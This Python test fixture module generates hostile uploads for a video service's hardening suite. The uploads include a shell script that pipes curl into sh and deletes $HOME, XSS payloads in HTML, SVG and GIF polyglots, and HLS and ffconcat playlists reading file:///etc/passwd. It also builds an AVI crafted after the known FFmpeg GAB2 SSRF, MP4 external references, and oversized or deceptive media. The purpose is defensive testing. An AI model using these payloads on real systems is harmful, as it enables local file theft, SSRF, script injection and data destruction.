"""Hostile files for the hardening suite, built from real clips or made with PyAV (no fakes).

Each builder returns the file's bytes; the table in ``test_bad_uploads.py`` names the reason
code the upload must be refused with.
"""
from __future__ import annotations

import io
import shutil
import struct
import zipfile
from fractions import Fraction
from pathlib import Path

import av
import numpy as np
from PIL import Image

from tests.inference.media import SAMPLES, write_audio_only, write_video

#: Real short clips (2 s, 320x240, H.264) from the fight-surv set: the cheapest real videos.
FIGHT_SURV = SAMPLES.parent / "fight-surv"
TINY_CLIPS = sorted((FIGHT_SURV / "noFight").glob("nofi0[89]?.mp4"))
#: Moov after mdat (a cut leaves no index) / moov first (a cut leaves a short mdat).
MOOV_AT_END = SAMPLES / "chaplin.mp4"
MOOV_FIRST = SAMPLES / "fall-01-cam0.mp4"


# --- executables, markup, scripts ---------------------------------------------------------------

def elf_executable() -> bytes:
    """A real ELF binary from this machine."""
    return Path(shutil.which("true") or "/bin/true").read_bytes()


def pe_executable() -> bytes:
    """A minimal Windows PE: MZ header, DOS stub, ``PE\\0\\0`` signature and COFF header."""
    dos = bytearray(b"MZ" + bytes(58) + struct.pack("<I", 0x80))
    dos += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    dos += b"This program cannot be run in DOS mode.\r\r\n$"
    dos = dos.ljust(0x80, b"\x00")
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    return bytes(dos) + b"PE\x00\x00" + coff + bytes(512)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\nrm -rf \"$HOME\"\n" * 4


def html_page() -> bytes:
    return (b"<!DOCTYPE html><html><head><title>clip</title></head><body>"
            b"<script>fetch('/api/v1/me/').then(r => r.text()).then(alert)</script>"
            b"<video src=x onerror=alert(1)></video></body></html>\n")


def svg_with_script() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
            b"<script>alert(document.cookie)</script></svg>\n")


# --- images -------------------------------------------------------------------------------------

def _image(fmt: str, **save: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (48, 32), (200, 30, 30)).save(buffer, format=fmt, **save)
    return buffer.getvalue()


def png_image() -> bytes:
    return _image("PNG")


def jpeg_image() -> bytes:
    return _image("JPEG", quality=80)


def gif_image() -> bytes:
    return _image("GIF")


def animated_gif() -> bytes:
    frames = [Image.new("P", (32, 32), i * 40) for i in range(5)]
    buffer = io.BytesIO()
    frames[0].save(buffer, format="GIF", save_all=True, append_images=frames[1:], duration=100,
                   loop=0)
    return buffer.getvalue()


def webp_image() -> bytes:
    return _image("WEBP")


# --- polyglots ----------------------------------------------------------------------------------

def _zip(name: str, payload: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, payload)
    return buffer.getvalue()


def jpeg_zip_polyglot() -> bytes:
    """A JPEG that is also a ZIP (archive appended: readers find the central directory)."""
    return jpeg_image() + _zip("run.sh", shell_script())


def gif_javascript_polyglot() -> bytes:
    """GIF89a header whose width/height bytes open a JavaScript comment (a classic)."""
    return b"GIF89a/*\x00\x00\x00\x00\x00\x00*/=1;alert(document.domain);//" + bytes(64)


def html_mp4_polyglot() -> bytes:
    """An HTML page followed by a complete real MP4 (browsers sniffing would render HTML)."""
    return html_page() + TINY_CLIPS[0].read_bytes()


def zip_mp4_polyglot() -> bytes:
    """A ZIP archive (local header first) with a real MP4 appended."""
    return _zip("payload.html", html_page()) + TINY_CLIPS[0].read_bytes()


def pdf_mp4_polyglot() -> bytes:
    return (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n"
            + TINY_CLIPS[0].read_bytes())


# --- playlists and references to other files or the network -------------------------------------

def hls_playlist(canary_url: str) -> bytes:
    return (f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n"
            f"#EXT-X-KEY:METHOD=AES-128,URI=\"{canary_url}/key\"\n"
            f"#EXTINF:10.0,\nfile:///etc/passwd\n#EXTINF:10.0,\n{canary_url}/segment.ts\n"
            f"#EXT-X-ENDLIST\n").encode()


def hls_playlist_with_bom(canary_url: str) -> bytes:
    return b"\xef\xbb\xbf\r\n" + hls_playlist(canary_url)


def ffconcat_script(canary_url: str) -> bytes:
    return (f"ffconcat version 1.0\nfile '{MOOV_FIRST}'\nfile 'file:///etc/passwd'\n"
            f"file '{canary_url}/clip.mp4'\n").encode()


def sdp_session(canary_port: int) -> bytes:
    """An SDP description: FFmpeg's sdp demuxer would open RTP sockets."""
    return (f"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
            f"m=video {canary_port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n").encode()


def _riff_chunk(fourcc: bytes, data: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) % 2 else b"")


def _riff_list(kind: bytes, body: bytes) -> bytes:
    return _riff_chunk(b"LIST", kind + body)


def _gab2_packet(subtitle: bytes) -> bytes:
    """The payload of an AVI GAB2 subtitle chunk (FFmpeg hands it to a nested demuxer)."""
    name = "x\x00".encode("utf-16-le")
    return (b"GAB2\x00" + struct.pack("<H", 2) + struct.pack("<I", len(name)) + name
            + struct.pack("<H", 4) + struct.pack("<I", len(subtitle)) + subtitle)


def avi_gab2_playlist(canary_url: str) -> bytes:
    """A crafted AVI after the well-known FFmpeg SSRF: its one stream is a GAB2 subtitle
    track whose chunks carry an HLS playlist listing ``file:///etc/passwd`` and the canary
    (an FFmpeg that opened it with the HLS demuxer would render the files as video frames)."""
    playlist = hls_playlist(canary_url)
    chunks = 20
    avih = struct.pack("<IIIIIIIIII", 40000, 0, 0, 0x10, chunks, 0, 1, 0, 64, 48) + bytes(16)
    strh = b"txts" + bytes(4) + struct.pack("<IHHIIIIIIIIhhhh", 0, 0, 0, 0, 1, 25, 0, chunks,
                                             0, 0xFFFFFFFF, 0, 0, 0, 0, 0)
    header = _riff_list(b"hdrl", _riff_chunk(b"avih", avih) + _riff_list(
        b"strl", _riff_chunk(b"strh", strh) + _riff_chunk(b"strf", b"")))
    movi = b"".join(_riff_chunk(b"00tx", _gab2_packet(playlist)) for _ in range(chunks))
    body = b"AVI " + header + _riff_list(b"movi", movi)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def mp4_external_reference(target: str) -> bytes:
    """A real MP4 (index at the end) whose video track's sample data reference (``dref``)
    points at another file or URL instead of the file itself."""
    data = MOOV_AT_END.read_bytes()
    path = _box_path(data, b"dref")
    dref_at = path[-1]
    # dref: size, type, version/flags, entry count, then the entries; replace the first.
    entry_at = dref_at + 16
    entry_size = struct.unpack(">I", data[entry_at:entry_at + 4])[0]
    entry = _alias_entry(target)
    delta = len(entry) - entry_size
    out = bytearray(data[:entry_at] + entry + data[entry_at + entry_size:])
    for box_at in path:  # every enclosing box grows (all of them start before the entry)
        struct.pack_into(">I", out, box_at, struct.unpack(">I", out[box_at:box_at + 4])[0] + delta)
    return bytes(out)


def _alias_entry(path: str) -> bytes:
    """A ``dref`` 'alis' entry (classic Mac alias record) whose absolute path is ``path``
    (FFmpeg's mov demuxer reads its samples from that file when ``enable_drefs`` is on)."""
    volume, name = b"Macintosh HD", path.rsplit("/", 1)[-1].encode()[:63]
    record = (bytes(10) + bytes([len(volume)]) + volume.ljust(27, b"\x00") + bytes(12)
              + bytes([len(name)]) + name.ljust(63, b"\x00") + bytes(16)
              + struct.pack(">hh", 1, 1) + bytes(16))
    raw = path.encode()
    padded = raw + (b"\x00" if len(raw) % 2 else b"")
    record += struct.pack(">HH", 2, len(raw)) + padded + struct.pack(">hH", -1, 0)
    return struct.pack(">I", 12 + len(record)) + b"alis" + b"\x00\x00\x00\x00" + record


_CONTAINERS = {b"moov", b"trak", b"mdia", b"minf", b"dinf"}


def _box_path(data: bytes, kind: bytes, start: int = 0, end: int | None = None) -> list[int]:
    """Offsets of the boxes from the top level down to the first box of type ``kind``."""
    end = len(data) if end is None else end
    pos = start
    while pos + 8 <= end:
        size = struct.unpack(">I", data[pos:pos + 4])[0]
        box = data[pos + 4:pos + 8]
        if size < 8:
            break
        if box == kind:
            return [pos]
        if box in _CONTAINERS:
            inner = _box_path(data, kind, pos + 8, pos + size)
            if inner:
                return [pos, *inner]
        pos += size
    return []


# --- broken real MP4s ---------------------------------------------------------------------------

def truncated_moov_at_end() -> bytes:
    """Half of a real MP4 whose index (moov) comes last: no index at all."""
    data = MOOV_AT_END.read_bytes()
    return data[: len(data) // 2]


def truncated_moov_first() -> bytes:
    """A third of a real faststart MP4: full index, most sample data missing."""
    data = MOOV_FIRST.read_bytes()
    return data[: len(data) // 3]


def header_only_mp4() -> bytes:
    """Just the ``ftyp`` box of a real MP4."""
    data = MOOV_FIRST.read_bytes()
    return data[: struct.unpack(">I", data[:4])[0]]


def mp4_without_ftyp_moov() -> bytes:
    """A real MP4 with its index box renamed (the demuxer finds no moov)."""
    data = bytearray(MOOV_FIRST.read_bytes())
    at = data.find(b"moov")
    data[at:at + 4] = b"xxxx"
    return bytes(data)


def mp4_scrambled_index() -> bytes:
    """A real MP4 whose sample tables are overwritten with random bytes."""
    data = bytearray(MOOV_FIRST.read_bytes())
    rng = np.random.default_rng(7)
    for kind in (b"stsz", b"stco", b"stsc", b"stts", b"avcC"):
        at = data.find(kind)
        if at > 0:
            data[at + 4:at + 64] = rng.integers(0, 256, 60, dtype=np.uint8).tobytes()
    return bytes(data)


def mp4_noise_in_mdat() -> bytes:
    """A real faststart MP4 whose sample data (every byte of ``mdat``) is random noise."""
    data = bytearray(MOOV_FIRST.read_bytes())
    at = data.find(b"mdat") + 4
    rng = np.random.default_rng(11)
    data[at:] = rng.integers(0, 256, len(data) - at, dtype=np.uint8).tobytes()
    return bytes(data)


def random_noise() -> bytes:
    return np.random.default_rng(3).integers(0, 256, 64_000, dtype=np.uint8).tobytes()


# --- audio only ---------------------------------------------------------------------------------

def aac_in_mp4(tmp: Path) -> bytes:
    return write_audio_only(tmp / "voice.mp4").read_bytes()


def _audio_file(tmp: Path, name: str, codec: str, fmt: str, *, layout: str = "mono",
                sample_fmt: str = "fltp") -> bytes:
    path = tmp / name
    rate = 16000
    with av.open(str(path), "w", format=fmt) as out:
        stream = out.add_stream(codec, rate=rate, layout=layout)
        frame_size = stream.codec_context.frame_size or 1024
        samples = (np.sin(np.arange(rate) / 7) * 0.3).astype(np.float32)
        planar = sample_fmt.endswith("p")
        for start in range(0, len(samples), frame_size):
            chunk = np.pad(samples[start:start + frame_size],
                           (0, max(0, frame_size - len(samples[start:start + frame_size]))))
            if sample_fmt.startswith("s16"):
                chunk = (chunk * 32767).astype(np.int16)
            frame = av.AudioFrame.from_ndarray(chunk[None, :], format=sample_fmt, layout=layout)
            frame.sample_rate = rate
            frame.pts = start
            for packet in stream.encode(frame):
                out.mux(packet)
        del planar
        for packet in stream.encode():
            out.mux(packet)
    return path.read_bytes()


def wav_audio(tmp: Path) -> bytes:
    return _audio_file(tmp, "a.wav", "pcm_s16le", "wav", sample_fmt="s16")


def mp3_audio(tmp: Path) -> bytes:
    return _audio_file(tmp, "a.mp3", "libmp3lame" if "libmp3lame" in av.codecs_available
                       else "mp3", "mp3", sample_fmt="fltp")


def audio_only_matroska(tmp: Path) -> bytes:
    return _audio_file(tmp, "a.mka", "flac", "matroska", sample_fmt="s16")


def audio_only_ogg(tmp: Path) -> bytes:
    return _audio_file(tmp, "a.ogg", "flac", "ogg", sample_fmt="s16")


# --- videos over the limits ---------------------------------------------------------------------

def eight_k_frame(tmp: Path) -> bytes:
    """Two black 7680x4320 frames (H.264, ultrafast: a few hundred bytes)."""
    frame = np.zeros((4320, 7680, 3), dtype=np.uint8)
    return write_video(tmp / "8k.mp4", [frame, frame], pts_sec=[0.0, 0.04]).read_bytes()


def ten_hour_still(tmp: Path) -> bytes:
    """A 10-hour still video: 64x48, one frame at 0 s, one at 10 h (about 1 KB)."""
    frame = np.full((48, 64, 3), 90, dtype=np.uint8)
    return write_video(tmp / "10h.mp4", [frame, frame], pts_sec=[0.0, 36_000.0],
                       time_base=Fraction(1, 1000)).read_bytes()


def thousand_fps(tmp: Path) -> bytes:
    """50 frames 1 ms apart: 1000 fps."""
    frames = [np.full((48, 64, 3), i * 5, dtype=np.uint8) for i in range(50)]
    return write_video(tmp / "fast.mp4", frames, pts_sec=[i / 1000 for i in range(50)],
                       time_base=Fraction(1, 10_000)).read_bytes()


# --- media that evades or overloads the probe -----------------------------------------------------

#: Real 640x360 footage (H.264) for the decoy cases: its first 5 s sit behind a decoy track.
DECOY_FOOTAGE = SAMPLES / "chaplin.mp4"


def decoy_first_track(tmp: Path, *, fmt: str = "mp4", footage_sec: float = 5.0) -> bytes:
    """Track 0: one black 64x64 frame (H.264); track 1: the first ``footage_sec`` of real
    640x360 footage, copied packet for packet. Both tracks are default (FFmpeg's muxers mark
    every track enabled), so a player picks the longer, larger one."""
    path = tmp / f"decoy.{'mkv' if fmt == 'matroska' else fmt}"
    with av.open(str(DECOY_FOOTAGE)) as source, av.open(str(path), "w", format=fmt) as out:
        real_in = source.streams.video[0]
        decoy = out.add_stream("libx264", rate=25)
        decoy.width = decoy.height = 64
        decoy.pix_fmt = "yuv420p"
        decoy.options = {"preset": "ultrafast"}
        real = out.add_stream_from_template(real_in)
        black = av.VideoFrame.from_ndarray(np.zeros((64, 64, 3), np.uint8), format="rgb24")
        black.pts = 0
        for packet in [*decoy.encode(black), *decoy.encode(None)]:
            out.mux(packet)
        for packet in source.demux(real_in):
            if packet.dts is None or float(packet.dts * real_in.time_base) >= footage_sec:
                continue
            packet.stream = real
            out.mux(packet)
    return path.read_bytes()


def _jpeg(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("L", (width, height), 16).save(buffer, format="JPEG", quality=50)
    return buffer.getvalue()


def mjpeg_growing_frames(tmp: Path, *, big: tuple[int, int] = (15360, 8640),
                         big_frames: int = 5) -> bytes:
    """MJPEG in Matroska: frame 0 is 64x64 (what the header and a first-frame probe see),
    frames 1..``big_frames`` are ``big`` (16x the pixel limit), each a few KB of grey JPEG."""
    path = tmp / "growing.mkv"
    small_jpeg, big_jpeg = _jpeg(64, 64), _jpeg(*big)
    with av.open(str(path), "w", format="matroska") as out:
        stream = out.add_stream("mjpeg", rate=25)
        stream.width = stream.height = 64
        stream.pix_fmt = "yuvj420p"
        stream.time_base = Fraction(1, 1000)
        for index, payload in enumerate([small_jpeg] + [big_jpeg] * big_frames):
            packet = av.Packet(payload)
            packet.stream = stream
            packet.pts = packet.dts = index * 40
            packet.duration = 40
            packet.time_base = Fraction(1, 1000)
            packet.is_keyframe = True
            out.mux(packet)
    return path.read_bytes()


def vfr_frame_gap(tmp: Path, *, gap_sec: float = 600.0) -> bytes:
    """Variable frame rate: 2 s at 25 fps, then ``gap_sec`` with no frame, then 2 s more
    (a few hundred KB asking for ``gap_sec`` of analysis windows)."""
    times = [i / 25 for i in range(50)] + [2.0 + gap_sec + i / 25 for i in range(50)]
    y, x = np.mgrid[0:240, 0:320]
    frames = [np.repeat(((x + y + 7 * i) % 256).astype(np.uint8)[..., None], 3, axis=2)
              for i in range(len(times))]
    return write_video(tmp / "gap.mp4", frames, pts_sec=times,
                       time_base=Fraction(1, 1000)).read_bytes()
